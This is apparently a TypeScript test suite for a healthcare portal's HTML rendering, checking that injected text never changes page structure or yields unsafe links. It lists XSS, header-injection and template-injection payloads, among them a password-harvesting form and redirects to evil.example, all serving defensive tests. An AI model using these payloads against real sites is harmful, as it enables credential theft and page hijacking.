/** Whatever an app or a person is called, the page stays the same page: only its words change. OWASP ASVS 5.3.3. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { AppView, PatientView } from '@affinity/authorization-server/page-views.ts';
import { createPortal } from './portal.ts';
import { createEhrDouble, okafor, openAt } from './testing/ehr.ts';
import { parsePage, skeleton } from './testing/parse-page.ts';
import * as views from './testing/views.ts';
import * as account from './testing/views-account.ts';

const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  `'><svg/onload=alert(1)>`,
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '</bdi></p></main><form action=https://evil.example><input name=password>',
  '" autofocus onfocus=alert(1) x="',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3c;script&#x3e;',
  '\\u003cscript\\u003e',
  'x\r\nSet-Cookie: a=b\r\n\r\n<script>',
  '\u0000<script>',
  '＜script＞',
  '<scr<script>ipt>',
  '<a href="javascript:alert(1)">x</a>',
  `$\{7*7}{{7*7}}<%= 7*7 %>`,
  '<style>*{display:none}</style>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '\u202e<script>',
  '</style></script></noscript><script>alert(1)</script>',
  '`onerror=alert(1)',
  '<math><mi xlink:href="data:x,y">',
];

/** The clinicians' pages with the same words in every record and app. */
const ehrTexts = async (words: string): Promise<readonly string[]> => {
  const patient = { id: words, name: words, birthDate: words, gender: words };
  const { ehr, clinicians } = createEhrDouble({
    apps: [{ clientId: words, name: words, publisher: words, origins: [] }],
    patients: async () => ({ kind: 'read', value: [patient] }),
    chart: async () => ({
      kind: 'read',
      value: { patient, encounters: [{ id: words, title: words, start: words, status: words, place: words }] },
    }),
  });
  clinicians.set(okafor, words);
  const { send, signIn } = openAt(createPortal({ ...views.neighbours, ehr }));
  await signIn();
  return Promise.all(['/ehr', '/ehr/patients/p1'].map(async (path) => (await send(path)).text()));
};

/** Every text of every view filled with the same words. */
const renderAll = async (words: string): Promise<readonly string[]> => {
  const app: AppView = {
    clientId: words,
    name: words,
    publisher: words,
    returnsTo: words,
    homepage: 'https://a.example/',
    policy: 'https://a.example/',
  };
  const patient: PatientView = { id: words, name: words, birthDate: words, relation: words };
  const person = { name: words };
  const common = { action: words, csrf: words, app };
  const portal = createPortal({
    ...views.neighbours,
    version: words,
    apps: [{ name: words, publisher: words, description: words, url: '/apps/a/' }],
    demonstration: { people: [{ name: words, username: words, password: words, about: words }] },
    addresses: [{ label: words, url: 'https://a.example/', about: words }],
  });
  const { pages } = portal;
  const items = views.items.map((item) => ({ ...item, scope: words, types: [words, words] }));
  return [
    pages.uncheckedApp({ ...common, app: { ...app, unchecked: true } }),
    pages.uncheckedApp({ ...common, stopped: true }),
    pages.signIn({ ...common, username: words, fault: { kind: 'wrong' } }),
    pages.signIn({
      ...common,
      providers: [{ name: words, address: '/auth/x' }],
      fault: { kind: 'elsewhere', why: 'failed', provider: words },
    }),
    pages.signIn({ ...common, linking: { provider: words, name: words }, fault: { kind: 'invitation' } }),
    pages.linkIdentity({ ...common, username: words, provider: words, name: words }),
    pages.secondFactor({ ...common, username: words, fault: { kind: 'wrong' } }),
    pages.tooWeak({ ...common, security: '/auth/account/security' }),
    pages.patientChoice({ ...common, person, patients: [patient], fault: 'none-chosen' }),
    pages.encounterChoice({
      ...common,
      person,
      patient,
      encounters: [{ id: words, title: words, start: words, status: words, place: words }],
      fault: 'none-chosen',
    }),
    ...(await ehrTexts(words)),
    pages.consent({
      ...views.consent,
      ...common,
      person,
      patient,
      items,
      servers: [true, false].map((required) => ({ base: words, name: words, required, checked: true })),
      durations: [{ value: words, days: 90, checked: true }],
    }),
    pages.consent({
      ...views.consent,
      items: views.claimItems.map((item) => ({ ...item, values: [{ value: words, system: words }] })),
      valuesShown: words,
    }),
    pages.deviceCode({ ...views.deviceCode, action: words, csrf: words, code: words }),
    pages.device({ ...common, code: words, app: { ...app, device: words } }),
    pages.deviceEnd({ result: 'undecided', app: words, again: 'https://a.example/' }),
    pages.error({ ...views.error, detail: words, reference: words }),
    pages.security(
      {
        ...account.security,
        username: words,
        passkeys: [{ id: words, name: words, since: '2026-11-22T18:00:00.000Z' }],
        newPasskey: words,
        identities: [{ provider: words, issuer: words, subject: words, since: '2026-11-22T18:00:00.000Z' }],
      },
      { ...account.frame, person: { name: words } },
    ),
    pages.signOutQuestion({ ...account.signOutQuestion, ...common, fields: { client_id: words } }),
    pages.accountApps(
      {
        ...account.apps,
        action: words,
        apps: account.apps.apps.map((app) => ({
          ...app,
          ...{ grant: words, name: words, publisher: words, clientId: words, patient, items },
        })),
      },
      { ...account.frame, person, csrf: words, signOut: words },
    ),
    await (await portal.fetch(new Request('http://localhost:4000/'))).text(),
  ];
};

const plain = await renderAll('Ana');

for (const payload of payloads) {
  test(`the page stands as it stood: ${JSON.stringify(payload)}`, async () => {
    const pages = await renderAll(payload);
    for (const [index, page] of pages.entries()) {
      // Scopes are split at spaces for the technical names, one `code` each: there the number of pieces may differ.
      const bones = (text: string) => skeleton(text).replaceAll('code[]\n', '');
      assert.equal(bones(page), bones(plain[index] ?? ''));
      for (const element of parsePage(page)) {
        const href = element.attributes.get('href') ?? '#';
        assert.doesNotMatch(href, /^(?!https:|http:\/\/localhost|\/|#)/);
      }
    }
  });
}

test('what is posted back is exactly what was given', () => {
  const value = `a"b'c<d>&amp; e`;
  const page = parsePage(
    createPortal(views.neighbours).pages.patientChoice({
      ...views.patientChoice,
      csrf: value,
      patients: [{ ...views.ana, id: value }],
    }),
  );
  const posted = page.filter((element) => element.tag === 'input').map((element) => element.attributes.get('value'));
  assert.deepEqual(posted, [value, value]);
});

test('a dangerous address on the front page is not linked', async () => {
  for (const url of ['javascript:alert(1)', 'data:text/html,x', '//evil.example/', 'http://evil.example/']) {
    const portal = createPortal({
      ...views.neighbours,
      origin: 'http://localhost:4000',
      apps: [{ name: 'A', publisher: 'B', description: 'C', url, icon: 'https://evil.example/a.png' }],
      addresses: [{ label: 'L', url, about: 'x' }],
    });
    const page = parsePage(await (await portal.fetch(new Request('http://localhost:4000/'))).text());
    const addresses = page.flatMap((element) =>
      [element.attributes.get('href') ?? [], element.attributes.get('src') ?? []].flat(),
    );
    assert.ok(
      addresses.every((address) => !address.includes('evil') && !/^(javascript|data):/.test(address)),
      addresses.join(' '),
    );
  }
});
